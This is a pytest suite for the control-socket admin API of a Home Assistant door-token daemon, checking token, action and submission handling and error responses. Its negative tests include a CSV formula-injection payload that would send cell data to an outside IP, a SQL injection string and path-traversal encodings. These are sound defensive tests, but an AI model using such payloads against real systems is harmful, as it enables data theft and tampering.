"""The admin API on the control socket: shapes, statuses and refusals, as the contract has them."""

import asyncio
import csv
import io
import json
import stat
import urllib.parse
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from tests.daemon import OPEN_DOOR, Answer, Daemon
from tests.fakes.home_assistant import Fail, HangUp
from tests.server.conftest import House

pytestmark = pytest.mark.asyncio(loop_scope="package")

TOKEN_KEYS = [
    "id",
    "action",
    "comment",
    "max_uses",
    "uses_left",
    "state",
    "valid_from",
    "expires_at",
    "created_at",
    "created_by",
    "last_used_at",
    "device",
]
SUBMISSION_KEYS = {
    "id",
    "token_id",
    "action",
    "state",
    "started_at",
    "finished_at",
    "uses_left",
    "error",
    "remote_ip",
    "user_agent",
    "context_id",
}


def refused(answer: Answer, status: int, code: str, *locs: Sequence[str | int]) -> None:
    """Hold an answer to RFC 9457, and to a status, a code and the places of what is wrong."""
    assert answer.status == status, answer.text
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert answer.json.keys() >= {"type", "title", "status", "detail", "code", "errors"}
    assert answer.json["status"] == status
    assert answer.json["code"] == code
    assert answer.json["detail"]
    for error in answer.json["errors"]:
        assert error.keys() == {"loc", "msg"}
        assert error["msg"]
    if locs:
        assert [error["loc"] for error in answer.json["errors"]] == [list(loc) for loc in locs]


async def pages(house: House, path: str, limit: int) -> list[Any]:
    """Read a list to its end."""
    items: list[Any] = []
    cursor = None
    while True:
        more = f"&cursor={cursor}" if cursor else ""
        answer = await house.admin("GET", f"{path}limit={limit}{more}")
        assert answer.status == 200
        assert answer.json.keys() == {"items", "next"}
        assert len(answer.json["items"]) <= limit
        items += answer.json["items"]
        cursor = answer.json["next"]
        if cursor is None:
            return items
        assert len(answer.json["items"]) == limit


# -- status and the socket -----------------------------------------------------------------------


async def test_the_socket_is_for_the_daemons_user_alone(house: House) -> None:
    directory = house.daemon.directory
    assert stat.S_IMODE((directory / "otsd.sock").stat().st_mode) == 0o600
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700


async def test_the_status_tells_the_connections_and_counts(house: House) -> None:
    await house.token()
    answer = await house.admin("GET", "/status")
    assert answer.status == 200
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.json.keys() >= {"version", "home_assistant", "mqtt", "counts"}
    home = answer.json["home_assistant"]
    assert home.keys() == {"state", "since", "error", "version"}
    assert (home["state"], home["error"], home["version"]) == ("connected", None, "2025.4.4")
    assert home["since"].endswith("+00:00")
    assert answer.json["mqtt"]["state"] == "off"
    before = answer.json["counts"]
    assert before["active_tokens"] >= 1
    await house.token(max_uses=3)
    after = (await house.admin("GET", "/status")).json["counts"]
    assert after["tokens"] == before["tokens"] + 1


# -- actions -------------------------------------------------------------------------------------


async def test_an_action_is_created_shown_replaced_and_deleted(house: House) -> None:
    defaults = {"max_uses": 3, "expires_in": "1h30m"}
    body = {"name": "garage", "title": "Garage", "yaml": OPEN_DOOR, "defaults": defaults}
    made = await house.admin("POST", "/actions", json=body)
    assert made.status == 201
    assert made.headers["Location"] == "/api/v1/actions/garage"
    assert made.json["warnings"] == []
    shown = await house.admin("GET", "/actions/garage")
    assert {key: shown.json[key] for key in body} == body
    refused(await house.admin("POST", "/actions", json=body), 409, "action_exists")
    new = {"title": "The garage", "yaml": OPEN_DOOR}
    replaced = await house.admin("PUT", "/actions/garage", json=new)
    assert replaced.status == 200
    assert replaced.json["defaults"] == {"max_uses": 1, "expires_in": None}
    assert replaced.json["created_at"] == made.json["created_at"]
    assert (await house.admin("GET", "/actions")).json["items"][0]["name"] == "garage"
    gone = await house.admin("DELETE", "/actions/garage")
    assert (gone.status, gone.body) == (204, b"")
    refused(await house.admin("GET", "/actions/garage"), 404, "unknown_action")
    refused(await house.admin("DELETE", "/actions/garage"), 404, "unknown_action")
    created = await house.admin("PUT", "/actions/garage", json=new)
    assert created.status == 201
    assert created.headers["Location"] == "/api/v1/actions/garage"
    await house.admin("DELETE", "/actions/garage")


async def test_an_action_in_use_is_deleted_only_by_force_which_revokes(house: House) -> None:
    await house.daemon.action("shed")
    token = await house.token("shed")
    refused(await house.admin("DELETE", "/actions/shed"), 409, "action_in_use")
    refused(await house.admin("DELETE", "/actions/shed?force=yes"), 422, "invalid", ["force"])
    refused(await house.admin("DELETE", "/actions/shed?force=false"), 409, "action_in_use")
    assert (await house.admin("DELETE", "/actions/shed?force=true")).status == 204
    assert (await house.admin("GET", f"/tokens/{token['id']}")).json["state"] == "revoked"
    refused(await house.admin("POST", "/tokens", json={"action": "shed"}), 404, "unknown_action")


async def test_actions_are_listed_newest_first_over_pages(house: House) -> None:
    for number in range(5):
        await house.daemon.action(f"listed-{number}")
    names = [item["name"] for item in await pages(house, "/actions?", 2)]
    assert names[:5] == [f"listed-{number}" for number in range(4, -1, -1)]
    assert len(set(names)) == len(names)


async def test_saving_an_action_refuses_what_home_assistant_refuses(house: House) -> None:
    house.home.on_validate = lambda _: "Unexpected value for action"
    try:
        body = {"name": "wrong", "title": "Wrong", "yaml": OPEN_DOOR}
        answer = await house.admin("POST", "/actions", json=body)
        refused(answer, 422, "invalid_action", ["yaml"])
        assert "Unexpected value" in answer.text
        answer = await house.admin("POST", "/actions/validate", json={"yaml": OPEN_DOOR})
        refused(answer, 422, "invalid_action", ["yaml"])
    finally:
        house.home.on_validate = lambda _: None
    refused(await house.admin("GET", "/actions/wrong"), 404, "unknown_action")
    good = await house.admin("POST", "/actions/validate", json={"yaml": OPEN_DOOR})
    door = {"kind": "entity_id", "id": "lock.front_door", "name": None, "state": "locked"}
    assert good.json == {
        "valid": True,
        "warnings": [],
        "services": ["lock.unlock"],
        "targets": [door],
    }


async def test_what_home_assistant_does_not_have_now_is_a_warning(house: House) -> None:
    for yaml, words in (
        ("action: lock.unlock\ntarget: {entity_id: lock.nowhere}\n", "lock.nowhere is missing"),
        ("action: lock.explode\ntarget: {entity_id: lock.front_door}\n", "lock.explode"),
    ):
        answer = await house.admin("PUT", "/actions/warned", json={"title": "W", "yaml": yaml})
        assert answer.status in (200, 201)
        assert any(words in warning for warning in answer.json["warnings"])


async def test_while_home_assistant_is_away_actions_are_saved_with_a_warning(
    tmp_path: Path,
) -> None:
    async with Daemon(tmp_path) as daemon:
        saved = await daemon.action()
        assert "not connected" in saved["warnings"][0]
        refused(await daemon.admin("POST", "/actions/open-door/run"), 503, "home_unavailable")
        status = (await daemon.status())["home_assistant"]
        assert status["state"] == "connecting"


async def test_an_action_is_run_now_and_its_failures_told(house: House) -> None:
    ran = await house.admin("POST", "/actions/open-door/run")
    assert ran.status == 200
    assert ran.json["state"] == "executed"
    assert ran.json["context_id"] == house.home.calls[-1].context_id
    house.home.on_call = lambda _: Fail("home_assistant_error", "The lock is jammed")
    failed = await house.admin("POST", "/actions/open-door/run")
    refused(failed, 502, "action_failed")
    assert "jammed" in failed.json["detail"]  # this is the owner
    house.home.on_call = lambda _: HangUp()
    refused(await house.admin("POST", "/actions/open-door/run"), 504, "outcome_unknown")
    await house.daemon.connected()
    house.home.on_call = lambda _: None
    await house.daemon.action("nowhere", "action: lock.unlock\ntarget: {entity_id: lock.none}\n")
    missing = await house.admin("POST", "/actions/nowhere/run")
    refused(missing, 503, "target_unavailable")
    assert "lock.none is missing" in missing.json["detail"]
    refused(await house.admin("POST", "/actions/nothing/run"), 404, "unknown_action")


# -- tokens --------------------------------------------------------------------------------------


async def test_a_token_is_minted_with_its_link_which_is_shown_again(house: House) -> None:
    body = {"action": "open-door", "comment": "Plumber", "expires_at": "2099-12-01T18:00:00Z"}
    made = await house.admin("POST", "/tokens", json=body)
    assert made.status == 201
    assert list(made.json) == [*TOKEN_KEYS, "url"]
    assert made.headers["Location"] == f"/api/v1/tokens/{made.json['id']}"
    assert made.json["url"].startswith(f"http://localhost:{house.port}/?token=")
    assert made.json["expires_at"] == "2099-12-01T18:00:00+00:00"
    assert (made.json["max_uses"], made.json["uses_left"]) == (1, 1)
    assert (made.json["state"], made.json["created_by"]) == ("active", "cli")
    assert made.json["device"] is made.json["last_used_at"] is made.json["valid_from"] is None
    shown = await house.admin("GET", f"/tokens/{made.json['id']}")
    assert list(shown.json) == TOKEN_KEYS
    link = await house.admin("GET", f"/tokens/{made.json['id']}/link")
    assert link.json == {"url": made.json["url"]}


async def test_a_link_is_drawn_as_a_qr_code(house: House) -> None:
    token = await house.token()
    svg = await house.admin("GET", f"/tokens/{token['id']}/qr.svg")
    assert svg.headers["Content-Type"] == "image/svg+xml"
    assert b"<svg" in svg.body
    png = await house.admin("GET", f"/tokens/{token['id']}/qr.png")
    assert png.headers["Content-Type"] == "image/png"
    assert png.body.startswith(b"\x89PNG\r\n")
    for name in ("qr.svg", "qr.png", "link"):
        refused(await house.admin("GET", f"/tokens/nothing/{name}"), 404, "unknown_token")
    refused(await house.admin("GET", f"/tokens/{token['id']}/qr.gif"), 404, "not_found")


async def test_what_is_absent_comes_from_the_actions_defaults(house: House) -> None:
    defaults = {"max_uses": 5, "expires_in": "2h"}
    await house.daemon.action("generous", defaults=defaults)
    token = await house.token("generous")
    assert token["max_uses"] == 5
    assert token["expires_at"] is not None
    token = await house.token("generous", max_uses=None, expires_at=None)
    assert token["max_uses"] is token["uses_left"] is token["expires_at"] is None
    assert (await house.token("generous", max_uses=2, expires_in=None))["expires_at"] is None


async def test_times_without_a_zone_are_in_home_assistants(house: House) -> None:
    token = await house.token(valid_from="2099-07-01T12:00:00", expires_at="2099-12-01T12:00")
    assert token["valid_from"] == "2099-07-01T10:00:00+00:00"
    assert token["expires_at"] == "2099-12-01T11:00:00+00:00"
    later = await house.token(valid_from="2099-07-01T12:00:00Z", expires_in="1h")
    assert later["expires_at"] == "2099-07-01T13:00:00+00:00"
    assert later["state"] == "scheduled"


async def test_tokens_are_listed_newest_first_by_state_and_action_over_pages(house: House) -> None:
    await house.daemon.action("many")
    made = [(await house.token("many"))["id"] for _ in range(7)]
    paused, revoked, used = made[1], made[3], made[5]
    await house.admin("POST", f"/tokens/{paused}/pause")
    await house.admin("POST", f"/tokens/{revoked}/revoke")
    await house.submit((await house.admin("GET", f"/tokens/{used}/link")).json["url"][-33:])
    scheduled = (await house.token("many", valid_from="2099-01-01T00:00Z"))["id"]
    listed = [item["id"] for item in await pages(house, "/tokens?action=many&", 3)]
    assert listed == [scheduled, *reversed(made)]
    for state, ids in (
        ("paused", [paused]),
        ("revoked", [revoked]),
        ("used_up", [used]),
        ("scheduled", [scheduled]),
        ("expired", []),
        ("active", [made[6], made[4], made[2], made[0]]),
    ):
        items = await pages(house, f"/tokens?action=many&state={state}&", 2)
        assert [item["id"] for item in items] == ids
        assert {item["state"] for item in items} <= {state}
    refused(await house.admin("GET", "/tokens?state=tired"), 422, "invalid", ["state"])
    assert (await house.admin("GET", "/tokens?action=nothing")).json["items"] == []


@pytest.mark.parametrize("path", ["/tokens", "/actions", "/submissions"])
async def test_a_window_that_is_none_is_refused(house: House, path: str) -> None:
    for query, loc in (
        ("limit=0", "limit"),
        ("limit=501", "limit"),
        ("limit=-1", "limit"),
        ("limit=1e3", "limit"),
        ("limit=%D9%A1", "limit"),
        ("limit=" + "9" * 5000, "limit"),
        ("cursor=x", "cursor"),
        ("cursor=-1", "cursor"),
        ("cursor=" + "9" * 30, "cursor"),
    ):
        refused(await house.admin("GET", f"{path}?{query}"), 422, "invalid", [loc])
    answer = await house.admin("GET", f"{path}?limit=x&cursor=y")
    refused(answer, 422, "invalid", ["limit"], ["cursor"])
    assert (await house.admin("GET", f"{path}?limit=500&cursor=999999999999999999")).status == 200


async def test_a_token_is_changed_within_what_was_used(house: House) -> None:
    token = await house.token(max_uses=3)
    path = f"/tokens/{token['id']}"
    await house.submit(token["code"])
    await house.submit(token["code"])
    change: dict[str, Any] = {
        "comment": "Painter",
        "max_uses": 5,
        "valid_from": "2020-01-01T00:00Z",
    }
    answer = await house.admin("PATCH", path, json=change)
    assert answer.status == 200
    assert (answer.json["comment"], answer.json["uses_left"]) == ("Painter", 3)
    assert (await house.admin("PATCH", path, json={})).json == answer.json
    refused(await house.admin("PATCH", path, json={"max_uses": 1}), 409, "uses_taken")
    used_up = await house.admin("PATCH", path, json={"max_uses": 2})
    assert (used_up.json["state"], used_up.json["uses_left"]) == ("used_up", 0)
    unlimited = await house.admin("PATCH", path, json={"max_uses": None, "expires_at": None})
    assert unlimited.json["uses_left"] is None
    wrong: list[tuple[dict[str, Any], list[str]]] = [
        ({"expires_at": "2019-01-01T00:00Z"}, ["expires_at"]),
        ({"expires_at": "2001-01-01T00:00Z", "valid_from": None}, ["expires_at"]),
        ({"expires_in": "2h"}, ["expires_in"]),
        ({"state": "active"}, ["state"]),
        ({"comment": None}, ["comment"]),
        ({"action": "open-door"}, ["action"]),
    ]
    for change, loc in wrong:
        refused(await house.admin("PATCH", path, json=change), 422, "invalid", loc)
    await house.admin("POST", f"{path}/revoke")
    refused(await house.admin("PATCH", path, json={"comment": "x"}), 409, "revoked")
    refused(await house.admin("PATCH", "/tokens/nothing", json={}), 404, "unknown_token")


async def test_a_token_is_paused_resumed_replenished_and_revoked_for_good(house: House) -> None:
    token = await house.token(max_uses=2)
    path = f"/tokens/{token['id']}"

    async def do(verb: str) -> Any:
        answer = await house.admin("POST", f"{path}/{verb}")
        assert answer.status == 200, answer.text
        assert list(answer.json) == TOKEN_KEYS
        return answer.json

    assert (await do("pause"))["state"] == "paused"
    assert (await do("pause"))["state"] == "paused"
    assert (await do("resume"))["state"] == "active"
    await house.submit(token["code"])
    await house.submit(token["code"])
    assert (await house.admin("GET", path)).json["state"] == "used_up"
    assert (await do("replenish"))["uses_left"] == 2
    assert (await do("revoke"))["state"] == "revoked"
    assert (await do("revoke"))["state"] == "revoked"
    for verb in ("pause", "resume", "replenish", "rotate"):
        refused(await house.admin("POST", f"{path}/{verb}"), 409, "revoked")
    # its history is kept, until it is deleted
    assert len(await pages(house, f"/submissions?token={token['id']}&", 1)) == 2
    assert (await house.admin("DELETE", path)).status == 204
    assert await pages(house, f"/submissions?token={token['id']}&", 1) == []
    refused(await house.admin("DELETE", path), 404, "unknown_token")
    for verb in ("pause", "resume", "replenish", "rotate", "revoke", "duplicate"):
        refused(await house.admin("POST", f"{path}/{verb}"), 404, "unknown_token")


async def test_an_expired_token_is_not_replenished(house: House) -> None:
    token = await house.token(expires_in="1s")
    path = f"/tokens/{token['id']}"

    async def has_expired() -> bool:
        return bool((await house.admin("GET", path)).json["state"] == "expired")

    await house.until(has_expired)
    refused(await house.admin("POST", f"{path}/replenish"), 409, "expired")
    later = await house.admin("PATCH", path, json={"expires_at": "2099-01-01T00:00Z"})
    assert later.json["state"] == "active"


async def test_rotating_gives_a_new_link_and_duplicating_another_token(house: House) -> None:
    token = await house.token(max_uses=3, comment="Plumber", expires_in="2h", device=True)
    rotated = await house.admin("POST", f"/tokens/{token['id']}/rotate")
    assert rotated.status == 200
    assert list(rotated.json) == [*TOKEN_KEYS, "url"]
    assert rotated.json["id"] == token["id"]
    assert rotated.json["url"] != token["url"]
    assert (await house.details(token["code"])).status == 410
    assert (await house.details(rotated.json["url"][-33:])).status == 200
    other = await house.admin("POST", f"/tokens/{token['id']}/duplicate")
    assert other.status == 201
    assert other.headers["Location"] == f"/api/v1/tokens/{other.json['id']}"
    assert other.json["id"] != token["id"]
    for key in ("action", "comment", "max_uses", "device"):
        assert other.json[key] == token[key]
    assert other.json["expires_at"] is not None
    assert other.json["url"] not in (token["url"], rotated.json["url"])


# -- submissions ---------------------------------------------------------------------------------


async def test_submissions_are_listed_newest_first_by_token_and_state(house: House) -> None:
    token = await house.token(max_uses=9)
    for number in range(5):
        if number % 2:
            house.home.on_call = lambda _: Fail("home_assistant_error", "The lock is jammed")
        else:
            house.home.on_call = lambda _: None
        await house.submit(token["code"], f"attempt-{number}", X_Forwarded_For="192.0.2.44")
    items = await pages(house, f"/submissions?token={token['id']}&", 2)
    assert [item["id"] for item in items] == sorted((item["id"] for item in items), reverse=True)
    assert [item["state"] for item in items] == ["executed", "failed"] * 2 + ["executed"]
    newest, failed = items[0], items[1]
    assert newest.keys() >= SUBMISSION_KEYS
    assert newest["remote_ip"] == "192.0.2.44"
    assert newest["error"] is None
    assert newest["finished_at"] >= newest["started_at"]
    assert newest["context_id"] == house.home.calls[-1].context_id
    assert failed["error"] == "The lock is jammed"
    assert "attempt-1" not in json.dumps(items)
    found = await pages(house, f"/submissions?token={token['id']}&state=failed&", 1)
    assert [item["id"] for item in found] == [items[1]["id"], items[3]["id"]]
    refused(await house.admin("GET", "/submissions?state=tired"), 422, "invalid", ["state"])
    assert (await house.admin("GET", "/submissions?token=nothing")).json["items"] == []


async def test_a_use_that_stayed_spent_is_given_back_once(house: House) -> None:
    token = await house.token(max_uses=2)
    await house.submit(token["code"], "attempt-1")
    house.home.on_call = lambda _: HangUp()
    assert (await house.submit(token["code"], "attempt-2")).status == 504
    await house.daemon.connected()
    lost, good = await pages(house, f"/submissions?token={token['id']}&", 10)
    assert lost["state"] == "unconfirmed"
    refused(await house.admin("POST", f"/submissions/{good['id']}/refund"), 409, "not_refundable")
    answer = await house.admin("POST", f"/submissions/{lost['id']}/refund")
    assert answer.status == 200
    assert answer.json["state"] == "unconfirmed"
    assert (await house.admin("GET", f"/tokens/{token['id']}")).json["uses_left"] == 1
    refused(await house.admin("POST", f"/submissions/{lost['id']}/refund"), 409, "not_spent")
    for wrong in ("0", "x", "-1", "9" * 18, "9" * 40, "%D9%A1"):
        answer = await house.admin("POST", f"/submissions/{wrong}/refund")
        refused(answer, 404, "unknown_submission")


async def test_a_use_from_before_a_replenishing_does_not_come_back(house: House) -> None:
    token = await house.token()
    house.home.on_call = lambda _: HangUp()
    assert (await house.submit(token["code"])).status == 504
    await house.daemon.connected()
    await house.admin("POST", f"/tokens/{token['id']}/replenish")
    (lost,) = await pages(house, f"/submissions?token={token['id']}&", 10)
    refused(await house.admin("POST", f"/submissions/{lost['id']}/refund"), 409, "replenished")


# -- the same request again ------------------------------------------------------------------------


async def test_a_minting_that_is_repeated_makes_one_token_also_after_a_restart(
    tmp_path: Path,
) -> None:
    async with Daemon(tmp_path) as daemon:
        await daemon.action()

        async def mint(key: str, **body: Any) -> Answer:
            headers = {"Idempotency-Key": key}
            body = {"action": "open-door", **body}
            return await daemon.admin("POST", "/tokens", json=body, headers=headers)

        answers = await asyncio.gather(*(mint("r1", comment="A") for _ in range(5)))
        first = answers[0]
        assert {(answer.status, answer.json["url"]) for answer in answers} == {
            (201, first.json["url"])
        }
        refused(await mint("r1", comment="B"), 409, "request_conflict")
        assert (await mint("r2", comment="A")).json["id"] != first.json["id"]
        daemon.kill()
        await daemon.start()
        assert (await mint("r1", comment="A")).json["url"] == first.json["url"]
        refused(await mint("r1", comment="B"), 409, "request_conflict")
        for key in ("", "a" * 65, "a b", "é"):
            refused(await mint(urllib.parse.quote(key) if key == "é" else key), 422, "invalid")
        assert (await daemon.status())["counts"]["tokens"] == 2
        code = first.json["url"].rpartition("=")[2]
        files = [path for path in daemon.directory.iterdir() if path.is_file()]
        assert code.encode() not in b"".join(path.read_bytes() for path in files)


# -- what is not in order --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"nonsense",
        b'{"action": "open-door"',
        b"\xff\xfe",
        b'{"action": "open-door", "comment": "\xff"}',
        b'{"action": "open-door", "comment": "\\ud800"}',
        b'{"action": NaN}x',
        b"[" * 60_000,
        b'{"a":' * 12_000,
    ],
)
async def test_what_is_no_json_is_refused_plainly(house: House, body: bytes) -> None:
    for method, path in (("POST", "/tokens"), ("POST", "/actions"), ("PUT", "/actions/x")):
        refused(await house.admin(method, path, data=body), 400, "bad_json")


@pytest.mark.parametrize("body", [b"[]", b"null", b"1", b'"open-door"', b"[" * 50 + b"]" * 50])
async def test_json_that_is_no_object_is_refused(house: House, body: bytes) -> None:
    answer = await house.admin("POST", "/tokens", data=body)
    refused(answer, 422, "invalid")


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ('"max_uses": true', "max_uses"),
        ('"max_uses": "2"', "max_uses"),
        ('"max_uses": 0', "max_uses"),
        ('"max_uses": -1', "max_uses"),
        ('"max_uses": 1.5', "max_uses"),
        ('"max_uses": 1000000001', "max_uses"),
        ('"max_uses": 1000000000000000000000000000000', "max_uses"),
        ('"max_uses": 1e30', "max_uses"),
        ('"max_uses": NaN', "max_uses"),
        ('"max_uses": Infinity', "max_uses"),
        ('"expires_in": "0s"', "expires_in"),
        ('"expires_in": "99999999d"', "expires_in"),
        ('"expires_in": "9999999999999999999999999d"', "expires_in"),
        ('"expires_in": "soon"', "expires_in"),
        ('"expires_in": "-1h"', "expires_in"),
        ('"expires_in": ""', "expires_in"),
        ('"expires_in": 3600', "expires_in"),
        ('"expires_in": true', "expires_in"),
        ('"expires_at": "2019-01-01T00:00Z"', "expires_at"),
        ('"expires_at": "2099-01-01"', "expires_at"),
        ('"expires_at": "99999-01-01T00:00"', "expires_at"),
        ('"expires_at": "0001-01-01T00:00"', "expires_at"),
        ('"expires_at": "9999-12-31T23:59:59-23:59"', "expires_at"),
        ('"expires_at": 1', "expires_at"),
        ('"valid_from": "2099-01-02T00:00Z", "expires_at": "2099-01-01T00:00Z"', "expires_at"),
        ('"valid_from": "2099-01-01T00:00Z", "expires_at": "2099-01-01T00:00Z"', "expires_at"),
        ('"valid_from": "2027-03-28T02:30"', "valid_from"),  # the clock goes from 2 to 3
        ('"comment": "a\\u0000b"', "comment"),
        ('"comment": "a\\nb"', "comment"),
        ('"comment": "a\\u001b[31mb"', "comment"),
        ('"comment": "a\\u202eb"', "comment"),
        ('"comment": null', "comment"),
        ('"comment": ["x"]', "comment"),
        ('"device": "yes"', "device"),
        ('"device": 1', "device"),
        ('"uses": 1', "uses"),
        ('"url": "x"', "url"),
    ],
)
async def test_a_wrong_value_is_refused_by_its_place(house: House, body: str, loc: str) -> None:
    answer = await house.admin("POST", "/tokens", data=f'{{"action": "open-door", {body}}}')
    refused(answer, 422, "invalid", [loc])
    assert "pydantic" not in answer.text


async def test_every_fault_of_a_body_is_listed_at_once(house: House) -> None:
    body = {"action": "Open Door", "max_uses": 0, "comment": "x" * 501, "colour": "red"}
    answer = await house.admin("POST", "/tokens", json=body)
    refused(answer, 422, "invalid", ["action"], ["max_uses"], ["comment"], ["colour"])
    both = {"action": "open-door", "expires_in": "1h", "expires_at": "2099-01-01T00:00Z"}
    refused(await house.admin("POST", "/tokens", json=both), 422, "invalid")
    refused(await house.admin("POST", "/tokens", json={}), 422, "invalid", ["action"])
    answer = await house.admin("POST", "/tokens", json={"action": "nothing"})
    refused(answer, 404, "unknown_action")


@pytest.mark.parametrize(
    ("body", "code", "loc"),
    [
        ({"title": ""}, "invalid", ["title"]),
        ({"title": " "}, "invalid", ["title"]),
        ({"title": "x" * 201}, "invalid", ["title"]),
        ({"title": "a\nb"}, "invalid", ["title"]),
        ({"title": 1}, "invalid", ["title"]),
        ({"name": "Open Door"}, "invalid", ["name"]),
        ({"name": "a" * 65}, "invalid", ["name"]),
        ({"name": "-a"}, "invalid", ["name"]),
        ({"name": "a\n"}, "invalid", ["name"]),
        ({"defaults": {"max_uses": True}}, "invalid", ["defaults", "max_uses"]),
        ({"defaults": {"expires_in": "0s"}}, "invalid", ["defaults", "expires_in"]),
        ({"defaults": {"uses": 1}}, "invalid", ["defaults", "uses"]),
        ({"yaml": {"action": "lock.unlock"}}, "invalid", ["yaml"]),
        ({"yaml": ""}, "invalid_action", ["yaml"]),
        ({"yaml": "a: b: c"}, "invalid_action", ["yaml"]),
        ({"yaml": "just words"}, "invalid_action", ["yaml"]),
        ({"yaml": "action: !secret x"}, "invalid_action", ["yaml"]),
        ({"yaml": "[" * 30_000}, "invalid_action", ["yaml"]),
        ({"yaml": "a: &a [*a]"}, "invalid_action", ["yaml"]),
        ({"yaml": "action: lock.unlock\ndata: {x: .nan}"}, "invalid_action", ["yaml"]),
        ({"yaml": "x: " + "a" * 65_536}, "invalid_action", ["yaml"]),
        ({"yaml": "action: lock.unlock\0"}, "invalid_action", ["yaml"]),
    ],
)
async def test_a_wrong_action_is_refused_by_its_place(
    house: House, body: dict[str, Any], code: str, loc: list[str]
) -> None:
    body = {"name": "wrong", "title": "Wrong", "yaml": OPEN_DOOR, **body}
    refused(await house.admin("POST", "/actions", json=body), 422, code, loc)


async def test_bodies_have_a_largest_size(house: House) -> None:
    large = json.dumps({"action": "open-door", "comment": "x" * 70_000})
    refused(await house.admin("POST", "/tokens", data=large), 413, "too_large")
    huge = json.dumps({"title": "x", "yaml": "x" * 300_000})
    refused(await house.admin("PUT", "/actions/huge", data=huge), 413, "too_large")
    # 64 kB of YAML fit, however JSON writes them down
    room = 65_536 - len(OPEN_DOOR)
    for filling in ("#\n" * (room // 2), "#" + "é" * (room // 2 - 1)):
        body = {"title": "Huge", "yaml": OPEN_DOOR + filling}
        answer = await house.admin("PUT", "/actions/huge", json=body)
        assert answer.status in (200, 201), answer.text


async def test_what_there_is_not_is_a_problem_document_too(house: House) -> None:
    for path in ("", "/", "/nothing", "/tokens/", "/tokens/x/y", "/tokens/x/explode"):
        refused(await house.admin("GET", path), 404, "not_found")
    for method, path in (("POST", "/status"), ("PUT", "/tokens"), ("DELETE", "/tokens")):
        answer = await house.admin(method, path)
        refused(answer, 405, "method_not_allowed")
        assert answer.headers["Allow"]
    refused(await house.admin("GET", "/tokens/x/revoke"), 405, "method_not_allowed")
    for name in ("%00", "%FF", "%ED%A0%80", "..", "%2e%2e%2f", "a" * 5000, "'; DROP TABLE tokens"):
        answer = await house.admin("GET", f"/tokens/{urllib.parse.quote(name, safe='%')}")
        assert answer.status == 404
        refused(answer, 404, answer.json["code"])
    refused(
        await house.admin("PUT", "/actions/Open%20Door", json={"title": "x", "yaml": OPEN_DOOR}),
        422,
        "invalid",
        ["name"],
    )


async def test_a_parameter_that_there_is_not_is_refused(house: House) -> None:
    # a filter that is misspelt would show, or end, more than was meant
    for path, name in (
        ("/tokens?stat=paused", "stat"),
        ("/tokens?state=paused&Action=x", "Action"),
        ("/status?limit=1", "limit"),
        ("/submissions/daily?day=1", "day"),
        ("/openapi.json?x", "x"),
    ):
        refused(await house.admin("GET", path), 422, "invalid", [name])
    refused(await house.admin("DELETE", "/actions/open-door?forced=true"), 422, "invalid")
    refused(await house.admin("POST", "/tokens?action=open-door", data="{"), 422, "invalid")
    answer = await house.admin("GET", "/tokens?limit=1&limit=2&b&a")
    refused(answer, 422, "invalid", ["a"], ["b"], ["limit"])


async def test_a_search_is_for_text_that_can_be_there(house: House) -> None:
    token = await house.token(comment="A very rare plumber")
    for words in ("rare%20PLUMB", token["id"][1:7]):
        items = await pages(house, f"/tokens?q={words}&state=active&", 1)
        assert [item["id"] for item in items] == [token["id"]]
    for words in ("%25", "%ED%A0%80", "%FF", "x" * 500):
        assert await pages(house, f"/tokens?q={words}&", 10) == []
    for words in ("%00", "a%00", "x" * 501):
        refused(await house.admin("GET", f"/tokens?q={words}"), 422, "invalid", ["q"])
    everything = (await house.admin("GET", "/tokens?limit=3")).json
    assert (await house.admin("GET", "/tokens?limit=3&q=")).json == everything


async def test_keys_are_listed_over_pages(house: House) -> None:
    for number in range(5):
        body = {"name": f"paged {number}", "scope": "read"}
        assert (await house.admin("POST", "/api-keys", json=body)).status == 201
    names = [item["name"] for item in await pages(house, "/api-keys?", 2)]
    assert names[:5] == [f"paged {number}" for number in range(4, -1, -1)]
    assert len(set(names)) == len(names)


async def test_a_body_is_json_whatever_it_is_called(house: House) -> None:
    body = b'{"action": "open-door"}'
    for kind in ("application/x-www-form-urlencoded", "text/xml", "application/json; charset=x"):
        headers = {"Content-Type": kind}
        answer = await house.admin("POST", "/tokens", data=body, headers=headers)
        assert answer.status == 201, kind
    utf_16 = body.decode().encode("utf-16")
    refused(await house.admin("POST", "/tokens", data=utf_16), 400, "bad_json")


async def test_a_visitor_cannot_write_formulas_into_the_owners_table(house: House) -> None:
    token = await house.token(max_uses=9)
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    for agent in (formula, f"x;{formula}", f" {formula}", f'";{formula}'):
        await house.submit(token["code"], User_Agent=agent)
    answer = await house.admin("GET", "/submissions.csv")
    listed = (await house.admin("GET", f"/submissions?token={token['id']}")).json["items"]
    assert any(item["user_agent"] == f"x;{formula}" for item in listed)  # the API tells it as it is
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter=delimiter):
            assert not any(cell.strip().startswith("=") for cell in row), row


async def test_the_public_site_is_not_on_the_control_socket(house: House) -> None:
    connector = aiohttp.UnixConnector(path=str(house.daemon.directory / "otsd.sock"))
    answer = await house.daemon.request("GET", "http://otsd/healthz", connector=connector)
    refused(answer, 404, "not_found")
